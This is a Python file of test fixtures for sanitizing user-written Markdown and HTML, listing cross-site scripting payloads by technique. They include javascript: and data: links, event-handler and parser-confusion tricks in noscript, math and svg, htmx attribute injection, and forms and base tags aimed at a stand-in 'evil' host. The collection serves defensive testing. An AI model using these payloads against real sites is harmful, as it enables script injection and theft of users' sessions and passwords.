"""What hostile writers send, by what they try."""

MARKDOWN = {
    "a javascript link": "[x](javascript:alert(1))",
    "a javascript link in entities": "[x](JaVa&#x0A;sCript&colon;alert(1))",
    "a javascript link in a reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "a javascript autolink": "<javascript:alert(1)>",
    "a data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "a vbscript and a file link": "[x](vbscript:1) [y](file:///etc/passwd)",
    "an svg as data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "a title that breaks out": '[x](http://a "\\" onclick=\\"alert(1)")',
    "an alternative text that breaks out": '![" onerror="alert(1)](x.png)',
    "a caption that breaks out": '![x](x.png "<img src=x onerror=alert(1)>")',
    "a language that breaks out": '~~~ x"onmouseover="alert(1)\ncode\n~~~',
    "a script as code": "```html\n<script>alert(1)</script>\n```",
    "a heading that breaks out": '# "><img src=x onerror=alert(1)>',
    "an id of the writer's own in a heading": "# x {#toasts} {#flash}",
    "a footnote that breaks out": '[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: x',
    "a script in entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "a cell that breaks out": '| a |\n|:--|\n| <b style="x" onclick=alert(1)>b</b> |',
    "a task that breaks out": "- [x] <input onclick=alert(1) name=password>",
}

HTML = {
    "a script": "<script>alert(1)</script><SCRIPT SRC=//evil></SCRIPT>",
    "an image with a handler": "<img src=x onerror=alert(1)>",
    "a handler after a slash": "<img/src=x/onerror=alert(1)>",
    "a handler after a form feed": "<img\fsrc=x\fonerror=alert(1)>",
    "an svg with a handler": "<svg onload=alert(1)>",
    "an svg with a script link": "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "noscript read in two ways": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "a style read in two ways": '<style><a title="</style><img src=x onerror=alert(1)>">',
    "math read in two ways": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    ),
    "a form nested in a form": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    ),
    "an annotation read in two ways": (
        '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style>'
    ),
    "an svg title read in two ways": '<svg></p><title><a id="</title><img src=x onerror=alert(1)>">',
    "a textarea read in two ways": '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    "an xmp read in two ways": '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "a template": "<template><img src=x onerror=alert(1)></template>",
    "a comment that ends early": "<!-- --!><img src=x onerror=alert(1)> -->",
    "a comment without an end": "<!--><img src=x onerror=alert(1)>",
    "a cdata section": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "an instruction": "<?x ><img src=x onerror=alert(1)>?>",
    "frames and plugins": (
        "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>"
    ),
    "a frame with a script address": "<iframe src='java&#9;script:alert(1)'></iframe>",
    "a frame whose address breaks out": "<iframe src='x\"><img src=x onerror=alert(1)>'></iframe>",
    "a video with a data address": "<video src='data:text/html,x' poster=javascript:alert(1)></video>",
    "base, meta, link and style": (
        "<base href=//evil><meta http-equiv=refresh content=0><link rel=stylesheet href=//evil>"
        "<style>*{}</style>"
    ),
    "a style attribute": '<p style="background:url(//evil)">x</p>',
    "htmx attributes": "<div hx-get=/x hx-trigger=load hx-vals='js:{a:alert(1)}' hx-on:click=f()>x</div>",
    "htmx attributes by their other name": "<div data-hx-post=/posts/1/delete data-hx-trigger=load>x</div>",
    "an element out of place": "<div id=flash hx-swap-oob=true>x</div><hx-partial id=toasts>x</hx-partial>",
    "a form": "<form action=//evil><input name=password><button formaction=//evil>x</button></form>",
    "a form field hidden from the rewriting": "<input name='<' type=password autofocus onfocus=alert(1)>",
    "names that shadow the page's own": "<a id=csrf_token name=csrf_token>x</a><img name=body id=location>",
    "an area and a map": "<map name=m><area href=javascript:alert(1)></map><img usemap=#m>",
    "a javascript link": "<a href=' &#14; javascript:alert(1)'>x</a><a href='JAVA\nSCRIPT:alert(1)'>y</a>",
    "a link to a new window": "<a href=//evil target=_blank ping=//evil>x</a>",
    "many sources": "<img srcset='javascript:alert(1) 1x'><picture><source srcset=//evil></picture>",
    "end tags of the page": "</div></article></main><aside id=comments>x",
    "an attribute that swallows the rest": '<p title="',
    "a tag without an end": "<img src=x onerror=alert(1)",
    "a broken quote": '<img src="x""onerror=alert(1)//">',
    "attributes on formatting": "<b/onclick=alert(1) x><i\nonclick=alert(1)>x",
    "a class of the page's": '<div class="toast modal code">x</div>',
}

# By the id that a list of cases gives them.
CASES = {
    "XMD-01": "[x](javascript:alert(1))",
    "XMD-02": "[x](JaVa&#x0A;sCript&colon;alert(1))",
    "XMD-04": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "XMD-05": "[x](vbscript:1) [y](file:///etc/passwd)",
    "XMD-06": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "XMD-08": '[x](http://a "\\" onclick=\\"alert(1)")',
    "XMD-10": "<img src=x onerror=alert(1)>",
    "XMD-11": "<svg onload=alert(1)>",
    "XMD-13": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "XMD-15": "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "XMD-16": "<base href=//evil><meta http-equiv=refresh><link rel=stylesheet href=//e><style>*{}</style>",
    "XMD-18": "<div hx-get=/x hx-trigger=load>x</div>",
    "XMD-19": "<div hx-post=/post/1/delete hx-trigger=load>x</div>",
    "XMD-20": "<div data-hx-get=/x data-hx-trigger=load>x</div>",
    "XMD-22": '<div hx-get=/x hx-vals="js:{a:alert(1)}">x</div>',
    "XMD-23": "<div id=flash hx-swap-oob=true>owned</div>",
    "XMD-26": "<form action=//evil><input name=password></form>",
    "XMD-27": '~~~ x"onmouseover="alert(1)\ncode\n~~~',
    "XMD-28": '# "><img src=x onerror=alert(1)>\n\n[^"><b id=x>]\n\n[^"><b id=x>]: y',
    "XMD-29": "```html\n<script>alert(1)</script>\n```",
    "XMD-30": "<!-- --!><img src=x onerror=alert(1)> --><![CDATA[><script>alert(1)</script>]]><?x ><b id=x>",
    "XMD-31": "&lt;script&gt;alert(1)&lt;/script&gt;",
}
